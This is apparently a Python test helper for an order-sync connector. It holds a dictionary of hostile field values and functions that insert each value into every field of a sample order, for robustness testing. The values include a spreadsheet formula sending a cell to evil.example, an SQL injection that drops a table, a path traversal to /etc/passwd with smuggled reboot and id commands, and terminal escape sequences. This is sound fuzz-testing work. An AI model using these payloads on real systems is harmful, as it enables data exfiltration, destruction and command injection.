"""What may stand in any field of any record, and a way to put it into each field of an order in turn."""

import json
from collections.abc import Iterator
from typing import Any

from syncctl.connectors.sandbox.bodies import NewLine
from tests.builders import World

NASTY = {
    "emoji": "\N{FAMILY}\u200d\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd",
    "right to left": "\u202eexe.gnp\u202c \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u2066\u05d0\u2069",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349" * 20,
    "NUL": "a\0b",
    "lone surrogates": "a\ud800b\udfffc",
    "surrogates the wrong way round": "\udc00\ud800",
    "formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "markup": "[/x][bold]y[/bold][link=http://evil.example]z[/link] :smile: {0} %s %(a)s ${HOME}",
    "escape": "\x1b[2J\x1b]52;c;aGk=\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\\x9b31m\x08\x7f",
    "lines": "one\r\ntwo\nthree\rfour\u2028five\u2029six\x0bseven\x85eight\ttab",
    "quotes": "'\"`\\\\'' \\\" \\x00 \\u0000 %00 &quot; &#39; <b>",
    "SQL": "'; DROP TABLE sales_order; -- \" OR 1=1; PRAGMA writable_schema=1",
    "JSON": '{"a":1,"a":2,"__proto__":{"$ref":"#"},"\\ud800":null}',
    "path": "../../etc/passwd\\..\\..\\CON.txt|$(reboot);`id`&&",
    "blank": " \u00a0\u3000\u200b\ufeff ",
    "empty": "",
    "not a character": "\uffff\ufffe\U0010ffff\ue000\u0378",
    "case": "\u0130\u0131\u00df\ufb03\u1e9e\u03c2 \u212a\uff21",
    "like a number": "1e999999",
    "like nothing": "None",
    "very long": "x" * 100_000,
    "wide": "\U0001f4a9" * 5_000,
}


def a_full_order(world: World, sku: str = "MUG") -> dict[str, Any]:
    """The body of an order in which every field there is has something in it; the order itself is gone again."""
    shop = world.shop
    address = {name: f"{name} 1" for name in "name company street city region postal_code country phone".split()}
    number = shop.place_order(
        [NewLine(sku=sku, quantity=3, price="10.00", title="Mug", tax="0.30")],
        customer={
            "id": "c-1",
            "name": "Ann",
            "company": "Ann Ltd",
            "emails": ["ann@example.org"],
            "phones": ["+447700900123"],
            "note": "knocks twice",
            "group": None,
            "reference": None,
            "tax_id": "GB980780684",
            "tax_exempt": False,
            "addresses": [{**address, "kind": "shipping", "is_default": True}],
            "consents": [
                {"channel": "email", "state": "subscribed", "changed_at": "2026-03-01T12:00:00Z", "source": "checkout"}
            ],
            "created_at": "2026-03-01T12:00:00Z",
            "updated_at": "2026-03-01T12:00:00Z",
        },
        charges={"shipping": ("2.00", "0.20")},
    )
    line = shop.order(number)["lines"][0]["id"]
    shop.fulfil(number, {line: 1}, tracking_number="T-1", carrier="Royal Mail", tracking_url="http://t.example")
    shop.refund(number, {line: 1}, restock=True, charges={"shipping": ("1.00", "0.10")})
    shop.mark(number, email="ann@example.org", shipping_address=address, billing_address=address, note="a note")
    body = shop.order(number)
    shop.remove_order(number)
    return body


def leaves(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The way to every single value in a body."""
    if isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(inner, (*path, key))
    else:
        yield path


def with_value(body: dict[str, Any], number: str, path: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    """The body under another number, with this value at that place; ids that must differ from order to order do."""
    text = json.dumps(body).replace('"c-1"', f'"c-{number}"').replace("ann@example.org", f"ann{number}@example.org")
    new = json.loads(text.replace("+447700900123", f"+44770090{int(number) % 10000:04}"))
    new |= {"id": number, "name": f"#{number}"}
    target: Any = new
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return dict(new)


def put_in_each_field(world: World, body: dict[str, Any], value: Any) -> dict[str, tuple[str | int, ...]]:
    """One order for each field of the body, with the value in it: its number -> the way to the field."""
    orders = {}
    with world.shop.atomic():
        for number, path in enumerate(leaves(body), 20_001):
            orders[str(number)] = path
            world.shop.put_raw(str(number), json.dumps(with_value(body, str(number), path, value)))
    return orders
